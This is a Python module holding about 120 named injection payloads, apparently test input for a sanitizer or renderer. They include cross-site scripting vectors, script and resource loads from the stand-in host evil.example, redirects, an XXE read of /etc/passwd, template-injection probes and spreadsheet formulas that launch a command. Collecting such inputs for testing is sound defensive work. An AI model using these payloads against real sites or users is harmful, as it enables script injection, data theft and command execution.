"""Payloads that have been used to make text run as code, one on each line.

Each calls ``alert``, loads something from ``evil.example`` or steers the page elsewhere, if it is
taken for anything but text.
"""

from __future__ import annotations

from types import MappingProxyType
from typing import Final

EVIL: Final = "https://evil.example/"

PAYLOADS: Final = MappingProxyType(
    {
        # Scripts.
        "a script": "<script>alert(1)</script>",
        "a script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
        "a script with a slash": "<script/x>alert(1)</script>",
        "a script in two halves": "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "a script from elsewhere": f"<script src={EVIL}x.js></script>",
        "a script of no scheme": "<script src=//evil.example/x.js></script>",
        "a module": f'<script type="module">import "{EVIL}x.js"</script>',
        "a script never closed": "<script>alert(1)//",
        "a script after an end": "</script><script>alert(1)</script>",
        "a script after a title": "</title><script>alert(1)</script>",
        "a script after a style": "</style><script>alert(1)</script>",
        "a script after a comment": "--><script>alert(1)</script>",
        "a script after a section of data": "]]><script>alert(1)</script>",
        "a script in full-width signs": "＜script＞alert(1)＜/script＞",
        "a script in entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
        "a script in numbers": "&#60;script&#62;alert(1)&#60;/script&#62;",
        "a script in entities of entities": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "a script in escapes": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        # Handlers of events.
        "an image's error": "<img src=x onerror=alert(1)>",
        "an image's error with slashes": "<img/src=y/onerror=alert(1)>",
        "an image's error in quotes": '<img src=x onerror="alert(1)">',
        "an image with a quote too many": '<img """><script>alert(1)</script>">',
        "a load": "<body onload=alert(1)>",
        "a focus": "<input autofocus onfocus=alert(1)>",
        "a focus by an anchor": "<p tabindex=1 autofocus onfocus=alert(1) id=x>x</p>",
        "a pointer": '<b onmouseover="alert(1)">x</b>',
        "an animation": (
            "<style>@keyframes x{}</style><b style='animation:x' onanimationend=alert(1)>"
        ),
        "a toggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "a video": "<video><source onerror=alert(1)></video>",
        "a marquee": "<marquee onstart=alert(1)>x</marquee>",
        "an attribute's end": '" onmouseover="alert(1)" x="',
        "an attribute's end, single": "' onmouseover='alert(1)' x='",
        "an attribute's end, autofocus": '" autofocus onfocus=alert(1) tabindex=1 x="',
        "a tag's end": '"><img src=x onerror=alert(1)>',
        "a tag's end, single": "'><img src=x onerror=alert(1)>",
        "a tag's end in a grave": "`><img src=x onerror=alert(1)>",
        # Drawings and formulas.
        "a drawing's load": "<svg onload=alert(1)>",
        "a drawing's script": "<svg><script>alert(1)</script></svg>",
        "a drawing's link": (
            "<svg><a xlink:href='javascript:alert(1)'><text x=9 y=9>x</text></a></svg>"
        ),
        "a drawing's animation": (
            "<svg><a><animate attributeName=href values=javascript:alert(1) /></a>"
        ),
        "a drawing's use": f"<svg><use href='{EVIL}x.svg#x'></use></svg>",
        "a drawing of HTML": (
            "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"
        ),
        "a formula's link": "<math href='javascript:alert(1)'>x</math>",
        "a formula's action": (
            "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x"
        ),
        # What browsers make of repaired HTML.
        "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "a template": "<template><img src=x onerror=alert(1)></template>",
        "a shadow": (
            "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>"
        ),
        "a choice": "<select><template><style><!--</style><img src=x onerror=alert(1)>--></select>",
        "a title": "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
        "a field": "<textarea><a title='</textarea><img src=x onerror=alert(1)>'></textarea>",
        "an example": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "a frame without frames": "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
        "plain text": "<plaintext><img src=x onerror=alert(1)>",
        "a glyph": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x "
        "onerror=alert(1)>'>",
        "a glyph in a form": "<form><math><mtext></form><form><mglyph><style></math><img src=x "
        "onerror=alert(1)>",
        "a style in a drawing": "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
        "a comment closed early": "<!--><img src=x onerror=alert(1)>-->",
        "a comment closed otherwise": "<!-- --!><img src=x onerror=alert(1)> -->",
        "a section of data": "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "an instruction": "<?xml version='1.0'?><img src=x onerror=alert(1)>",
        "a declaration": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
        "an attribute across tags": "<a title='<img src=x onerror=alert(1)>'>x</a>",
        # Addresses.
        "an address of code": "[x](javascript:alert(1))",
        "an address of code in capitals": "[x](JaVaScRiPt:alert(1))",
        "an address of code with entities": "[x](java&#115;cript:alert(1))",
        "an address of code with a tab": "<a href='java&Tab;script:alert(1)'>x</a>",
        "an address of code with a line": "<a href='java&#10;script:alert(1)'>x</a>",
        "an address of code with a colon": "<a href='javascript&colon;alert(1)'>x</a>",
        "an address of code with a control": "<a href='&#1;javascript:alert(1)'>x</a>",
        "an address of code in percents": "[x](%6Aavascript:alert(1))",
        "an address of code by name": "[x][code]\n\n[code]: javascript:alert(1)",
        "an address of code in angles": "<javascript:alert(1)>",
        "an address of code as an image": "![x](javascript:alert(1))",
        "an address of old code": "[x](vbscript:msgbox(1))",
        "an address of data": "[x](data:text/html,<script>alert(1)</script>)",
        "an address of coded data": (
            "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>"
        ),
        "an address of a file": "[x](file:///etc/passwd)",
        "an address with a quote": '[x](https://evil.example/"onmouseover="alert(1)")',
        "an address's title": '[x](https://evil.example/ "x\\" onmouseover=\\"alert(1)")',
        "an attribute list": "[x](https://evil.example/){: onclick=alert(1) style=color:red }",
        # External resources and navigation.
        "an image from elsewhere": f"![x]({EVIL}x.png)",
        "an image of two sizes": f"<img src=x srcset='{EVIL}x.png 2x'>",
        "an image never closed": f"<img src='{EVIL}?",
        "a link never closed": f"<a href='{EVIL}?",
        "a frame": f"<iframe src={EVIL}></iframe>",
        "a frame of code": "<iframe src=javascript:alert(1)></iframe>",
        "a frame of text": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "an object": f"<object data={EVIL}x.swf></object>",
        "an embedded one": "<embed src=javascript:alert(1)>",
        "a sheet": f"<link rel=stylesheet href={EVIL}x.css>",
        "something fetched early": f"<link rel=preload as=image href={EVIL}x.png>",
        "an import": f"<style>@import '{EVIL}x.css';</style>",
        "a background": f"<b style='background:url({EVIL}x.png)'>x</b>",
        "a style that hides": "<style>*{display:none}</style>",
        "an expression": "<b style='width:expression(alert(1))'>x</b>",
        "a base": f"<base href={EVIL}>",
        "a refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
        "a refresh to code": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "a cookie": "<meta http-equiv=set-cookie content='a=b'>",
        "a form": f"<form action={EVIL}><button autofocus>x</button></form>",
        "a button": "<button formaction=javascript:alert(1)>x</button>",
        "a ping": f"<a href=https://a.example/ ping={EVIL}>x</a>",
        "a sound": f"<audio src={EVIL}x.mp3 autoplay onerror=alert(1)>",
        # Imitations of parts of the page.
        "an id of the page": "<a id=page-content></a><a id=content></a>",
        "a name of the page's object": "<img name=body><form name=documentElement><a id=location>",
        "a list of names": "<a id=x><a id=x name=y href=https://evil.example/>x</a>",
        "a class of the theme": (
            "<p class='masthead overlay page' style='position:fixed;inset:0'>x</p>"
        ),
        "a placeholder": "\u0002klzzwxh:0000\u0003 wzxhzdk:0 =0123456789abcdef0123456789abcdef-0=",
        # Other languages than HTML.
        "a template's": "{{ 7*7 }}{% include '/etc/passwd' %}{# x #}${7*7}<%= 7*7 %>#{7*7}",
        "a template's object": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "a format's": "%(title)s {title.__class__} %s %n",
        "a sheet's formula": "=cmd|' /C calc'!A0",
        "a sheet's sum": "+1+1;@SUM(1+1)*cmd|' /C calc'!A0",
        "a calendar's lines": 'x\\nEND:VEVENT\\nBEGIN:VALARM;X="a":b,c',
        "a bibliography's": "}, url = {javascript:alert(1)}, x = {\\input{/etc/passwd}}",
        "a terminal's": "\u001b]8;;https://evil.example/\u0007x\u001b[31m\u009b2J",
        "an annotation's": "::error file=x,line=1::x%0A::set-output name=x::y",
        "an override of direction": "\u202e>tpircs/<)1(trela>tpircs<\u2066x",
        "a separator of lines": "x\u2028alert(1)\u2029x\u0085x",
    }
)
